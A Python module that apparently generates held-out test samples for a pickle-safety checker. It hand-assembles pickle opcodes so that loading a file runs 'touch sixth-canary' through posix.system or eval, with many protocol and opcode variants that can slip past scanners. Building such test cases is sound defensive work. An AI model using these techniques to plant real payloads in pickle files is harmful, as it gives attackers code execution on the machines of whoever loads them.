"""A small writer of pickles for the sixth round: expressions become opcodes, nothing is pickled.

Every payload touches `CANARY` in the working folder, so that the check can see it run.
"""

import struct
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from held_out import Sample

CANARY = "sixth-canary"
CMD = f"touch {CANARY}"
EXPR = f"__import__('os').system('{CMD}')"


@dataclass(frozen=True)
class Loaded(Sample):
    """A sample that says which loader is its natural one, for the check."""

    how: str = "pickle"


@dataclass(frozen=True)
class G:
    """A global, by the oldest opcode or by two strings."""

    module: str
    name: str


@dataclass(frozen=True)
class R:
    """A call; `how` names the opcode that makes it."""

    function: Any
    args: tuple[Any, ...]
    how: str = "reduce"


@dataclass(frozen=True)
class B:
    """An object that gets a state."""

    thing: Any
    state: Any


@dataclass(frozen=True)
class Bytes:
    """Opcodes as they are."""

    data: bytes


def g(path: str) -> G:
    module, _, name = path.partition(":") if ":" in path else path.rpartition(".")
    return G(module, name)


def r(path: Any, *args: Any) -> R:
    return R(g(path) if isinstance(path, str) else path, args)


def text(value: str, p: int) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    if p == 0:
        return b"V" + value.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
    if p >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int, p: int) -> bytes:
    if p == 0 or not -(2**31) <= value < 2**31:
        return b"L%dL\n" % value if abs(value) >= 2**31 else b"I%d\n" % value
    return b"J" + struct.pack("<i", value)


def raw(value: bytes, p: int) -> bytes:
    if p >= 3:
        return b"B" + struct.pack("<I", len(value)) + value
    called = r("_codecs.encode", value.decode("latin-1"), "latin1")
    return item(called, p)


def several(values: Iterable[Any], p: int) -> bytes:
    return b"".join(item(one, p) for one in values)


def tupled(values: tuple[Any, ...], p: int) -> bytes:
    if p >= 2 and len(values) < 4:
        return several(values, p) + (b")" if not values else bytes([0x84 + len(values)]))
    return b"(" + several(values, p) + b"t"


def found(one: G, p: int) -> bytes:
    if p >= 4:
        return text(one.module, p) + text(one.name, p) + b"\x93"
    head, _, tail = one.name.rpartition(".")
    if head:  # these protocols know no dots
        return item(R(G("builtins", "getattr"), (G(one.module, head), tail)), p)
    return b"c" + f"{one.module}\n{one.name}\n".encode()


def call(one: R, p: int) -> bytes:
    if one.how == "obj":
        return b"(" + item(one.function, p) + several(one.args, p) + b"o"
    if one.how == "inst":
        where = f"{one.function.module}\n{one.function.name}\n".encode()
        return b"(" + several(one.args, p) + b"i" + where
    start = item(one.function, p) + tupled(one.args, p)
    return start + {"reduce": b"R", "newobj": b"\x81", "newobjex": b"}\x92"}[one.how]


def item(value: Any, p: int) -> bytes:
    match value:
        case G():
            return found(value, p)
        case R():
            return call(value, p)
        case B():
            return item(value.thing, p) + item(value.state, p) + b"b"
        case Bytes():
            return value.data
        case None:
            return b"N"
        case bool():
            if p < 2:
                return b"I01\n" if value else b"I00\n"
            return b"\x88" if value else b"\x89"
        case int():
            return number(value, p)
        case float():
            return b"G" + struct.pack(">d", value) if p else b"F%r\n" % value
        case str():
            return text(value, p)
        case bytes():
            return raw(value, p)
        case tuple():
            return tupled(value, p)
        case list():
            return b"(l" + (b"(" + several(value, p) + b"e" if value else b"")
        case dict():
            pairs = [part for pair in value.items() for part in pair]
            return b"(d" + (b"(" + several(pairs, p) + b"u" if pairs else b"")
    raise TypeError(type(value))


def whole(*parts: Any, p: int = 4, end: bytes = b".") -> bytes:
    """Return a pickle of the parts; all but the last are thrown away again."""
    head = b"" if p < 2 else b"\x80" + bytes([p])
    return head + b"0".join(item(one, p) for one in parts) + end


def framed(data: bytes) -> bytes:
    """Put everything behind PROTO into one frame, as the library does from protocol 4 on."""
    return data[:2] + b"\x95" + struct.pack("<Q", len(data) - 2) + data[2:]


def system() -> R:
    return r("posix.system", CMD)


def evaluated() -> R:
    return r("builtins.eval", EXPR)
